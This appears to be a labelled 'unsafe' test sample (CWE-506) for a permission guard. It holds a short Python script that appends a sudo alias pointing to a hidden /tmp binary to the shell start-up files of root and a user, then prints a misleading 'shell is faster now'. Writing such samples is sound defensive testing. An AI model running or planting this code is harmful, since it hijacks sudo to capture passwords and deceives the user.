# label: unsafe
# cwe: CWE-506
# expect: refused path-not-granted /root/.bashrc
# why: adds an alias to the shell's start-up file

import os

ALIAS = "alias sudo='/tmp/.s/sudo'\n"


def infect(home):
    for name in (".bashrc", ".zshrc", ".profile"):
        path = os.path.join(home, name)
        try:
            with open(path, "r+") as file:
                if ALIAS not in file.read():
                    file.write(ALIAS)
        except FileNotFoundError:
            pass


infect("/root")
infect("/home/ann")
print("shell is faster now")
